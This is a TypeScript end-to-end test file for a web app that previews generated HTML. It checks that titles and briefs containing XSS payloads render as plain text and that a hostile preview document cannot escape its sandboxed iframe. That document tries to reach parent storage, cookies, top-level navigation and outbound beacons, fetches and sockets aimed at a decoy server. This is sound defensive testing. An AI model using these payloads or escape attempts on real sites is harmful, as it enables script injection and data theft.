/** Variants and briefs that mean harm: a document that reaches for everything around it, and titles made of markup. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame as PageFrame } from 'playwright';
import { afterAll, describe, expect, it } from 'vitest';
import { operations } from '#lib/server/http/operations.ts';
import type { ApiClient } from '../support/api-client.ts';
import { eventually, opened, PATIENCE_MS, seen } from '../support/browse.ts';
import { frames } from '../support/contact-sheet.ts';
import { useStage } from '../support/stage.ts';

const TITLE = '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"> Door bell';
const WORK_TITLE = '</title><img src=x onerror="window.pwned = 3">Bell';
const BRIEF = `---
title: ${JSON.stringify(TITLE)}
audience: ${JSON.stringify('</p><script>window.pwned = 4</script>')}
states: [ringing]
---
Say who is at the door. <iframe srcdoc="<script>parent.window.pwned = 5</script>"></iframe>

- <b onmouseover="window.pwned = 6">Loud</b>
`;

/** A stranger's server: every request that gets through to it is a leak. */
const leaks: string[] = [];
const stranger = createServer((request, response) => {
	leaks.push(`${request.method} ${request.url}`);
	response.setHeader('access-control-allow-origin', '*');
	response.end('<!doctype html><title>Elsewhere</title>');
});

let api: ApiClient;
let sheet = '';

/** A document that tries every way out it knows and writes down what came of each. */
function hostileDocument(outside: string, gallery: string): string {
	return `<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>${WORK_TITLE.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</title>
<meta name="description" content="&lt;script&gt;window.pwned = 7&lt;/script&gt;">
<base href="${outside}/base/">
<link rel="stylesheet" href="${outside}/style.css"><link rel="preconnect" href="${outside}"><link rel="prefetch" href="${outside}/prefetch">
<script src="${outside}/script.js"></script>
<style>@import url("${outside}/import.css"); body { background: url("${outside}/background.png"); font: 20px sans-serif }</style>
</head><body><h1>Bell</h1>
<img src="${outside}/image.png"><video src="${outside}/video.mp4" autoplay></video><object data="${outside}/object"></object>
<iframe src="${outside}/frame"></iframe><iframe src="${gallery}/briefs"></iframe>
<form id="form" method="post" action="${gallery}/api/v1/briefs" target="_top"><input name="source" value="x"></form>
<a id="up" href="${outside}/top" target="_top">up</a><a id="new" href="${outside}/new" target="_blank">new</a><a id="save" href="data:text/plain,x" download="x.exe">save</a>
<p id="told"></p>
<script>
const told = {};
const attempt = (name, work) => { try { told[name] = String(work()); } catch (error) { told[name] = error.name; } };
attempt('parent document', () => parent.document.title);
attempt('parent storage', () => parent.localStorage.length);
attempt('parent name', () => { parent.pwned = 8; return 'set'; });
attempt('cookies', () => document.cookie);
attempt('storage', () => { localStorage.setItem('a', 'b'); return localStorage.getItem('a'); });
attempt('database', () => indexedDB.open('x').readyState);
attempt('top address', () => { top.location.href = ${JSON.stringify(`${outside}/top-address`)}; return 'set'; });
attempt('top replace', () => { top.location.replace(${JSON.stringify(`${outside}/top-replace`)}); return 'set'; });
attempt('window', () => open(${JSON.stringify(`${outside}/window`)}));
attempt('dialog', () => { alert('hello'); return 'shown'; });
attempt('beacon', () => { navigator.sendBeacon(${JSON.stringify(`${outside}/beacon`)}, 'x'); return 'sent'; });
attempt('form', () => { document.getElementById('form').submit(); return 'sent'; });
for (const id of ['up', 'new', 'save']) attempt(id, () => { document.getElementById(id).click(); return 'pressed'; });
attempt('image', () => { new Image().src = ${JSON.stringify(`${outside}/late.png`)}; return 'asked'; });
attempt('socket', () => { new WebSocket(${JSON.stringify(`${outside.replace('http', 'ws')}/socket`)}); return 'asked'; });
attempt('events', () => { new EventSource(${JSON.stringify(`${outside}/events`)}); return 'asked'; });
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch(${JSON.stringify(`${outside}/worker`)})']))); return 'asked'; });
for (const message of ['x', null, { vitrine: 'state', nonce: 'guess', state: 'ringing' }, { vitrine: 'navigate', href: ${JSON.stringify(outside)} }])
	parent.postMessage(message, '*');
Promise.allSettled([fetch(${JSON.stringify(`${outside}/fetch`)}), fetch(${JSON.stringify(`${gallery}/api/v1/briefs`)}), fetch(${JSON.stringify(`${gallery}/api/v1/briefs`)}, { method: 'POST', mode: 'no-cors', body: '{}' })])
	.then((results) => {
		told.fetches = results.map(({ status }) => status).join();
		document.getElementById('told').textContent = JSON.stringify(told);
	});
document.addEventListener('vitrine:state', (event) => {
	if (event.detail.state !== 'ringing') return;
	document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=${outside}/refresh">');
	location.href = ${JSON.stringify(`${outside}/itself`)};
});
</script></body></html>`;
}

const stage = useStage(
	async (set) => {
		({ api } = set);
		await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
		const outside = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
		stage.endpoint.setScenario({
			text: `\`\`\`html\n${hostileDocument(outside, stage.app.url)}\n\`\`\``
		});
		const { body: brief } = await api.call(operations.addBrief, { body: { source: BRIEF } });
		const params = { id: brief.id };
		await api.call(operations.startRound, { params, body: { provider: 'openai', count: 2 } });
		sheet = `/briefs/${brief.id}`;
		await eventually(
			async () =>
				(await api.call(operations.getBrief, { params })).body.variants.map(({ phase }) => phase),
			['ready', 'ready'],
			'two hostile variants'
		);
	},
	{ models: {} }
);
afterAll(() => new Promise((resolve) => stranger.close(resolve)));

describe('a hostile variant', { timeout: 3 * PATIENCE_MS }, () => {
	it('was photographed without reaching anything', async () => {
		const { variants } = (await api.call(operations.getBrief, { params: { id: sheet.slice(8) } }))
			.body;
		const statuses = variants.flatMap(({ captures }) => captures.map(({ status }) => status));
		expect(new Set(statuses)).toEqual(new Set(['taken']));
		expect(leaks).toEqual([]);
	});

	it('runs live and reaches nothing: no page, cookie, network, window or way up', async () => {
		const { page, context } = stage.desk;
		await context.addCookies([{ name: 'vitrine-light', value: 'table', url: stage.app.url }]);
		await opened(page, `${stage.app.url}${sheet}/loupe/1?live=`);
		const address = page.url();
		const title = await page.title();
		const inner = await runHostile();
		const told: Record<string, string> = JSON.parse(await inner.locator('#told').innerText());
		expect(told).toMatchObject({
			'parent document': 'SecurityError',
			'parent storage': 'SecurityError',
			'parent name': 'SecurityError',
			// Its own memory, and nothing of ours in it.
			cookies: '',
			storage: 'b',
			'top address': 'SecurityError',
			'top replace': 'SecurityError',
			window: 'null',
			fetches: 'rejected,rejected,rejected'
		});
		expect(told['database']).not.toBe('pending');

		// Even when it leads itself away, our page and its address stay, and nothing is sent.
		await page.getByLabel('ringing', { exact: true }).check({ force: true });
		await eventually(
			() => page.frames().some((frame) => frame.url().startsWith(stage.app.previewUrl)),
			false,
			'the frame to be led away'
		);
		expect(page.url()).toContain(`${sheet}/loupe/1`);
		expect(new URL(page.url()).pathname).toBe(new URL(address).pathname);
		expect(await page.title()).toBe(title);
		expect(context.pages()).toHaveLength(1);
		expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
		expect(await context.cookies()).toMatchObject([{ name: 'vitrine-light', value: 'table' }]);
		expect((await api.call(operations.listBriefs)).body.briefs).toHaveLength(1);
		expect(leaks).toEqual([]);
		expect(stage.desk.problems).toEqual([]);
	});

	async function runHostile(): Promise<PageFrame> {
		const handle = await (await seen(stage.desk.page.locator('iframe'))).elementHandle();
		const inner = await handle?.contentFrame();
		if (!inner) throw new Error('The live preview has no document.');
		await eventually(
			async () => (await inner.locator('#told').innerText()) !== '',
			true,
			'all it tried to be written down'
		);
		return inner;
	}
});

describe('markup in titles', { timeout: 3 * PATIENCE_MS }, () => {
	it.each([
		['the sheet', ''],
		['the loupe', '/loupe/2'],
		['the decision', '/decision?variant=2'],
		['a new round', '/round']
	])('is text in %s', async (_, path) => {
		const { page } = stage.desk;
		await opened(page, `${stage.app.url}${sheet}${path}`);
		await seen(page.getByRole('heading', { name: TITLE, exact: true }));
		if (path === '')
			expect(await frames(page).first().locator('.title').innerText()).toContain('<img src=x');
		if (path === '/round') await seen(page.getByText('<iframe srcdoc='));
		expect(await page.locator('img[src="x"], iframe').count()).toBe(0);
		expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
	});

	it('is text in the list of briefs, in a decision and in what is read while one writes', async () => {
		const { page } = stage.desk;
		await opened(page, `${stage.app.url}${sheet}/decision?variant=1`);
		await page.getByLabel('Why, in a sentence').fill('<script>window.pwned = 9</script>');
		await page.getByRole('button', { name: 'Choose 1' }).click();
		await seen(page.locator('blockquote').getByText('<script>window.pwned = 9</script>'));
		await opened(page, `${stage.app.url}/briefs`);
		await seen(page.getByText(TITLE, { exact: true }));
		await opened(page, `${stage.app.url}/new`);
		await page.locator('textarea').fill(BRIEF);
		await seen(page.getByText(TITLE, { exact: true }));
		expect(await page.locator('img[src="x"], iframe').count()).toBe(0);
		expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
		expect(leaks).toEqual([]);
		expect(stage.desk.problems).toEqual([]);
	});
});
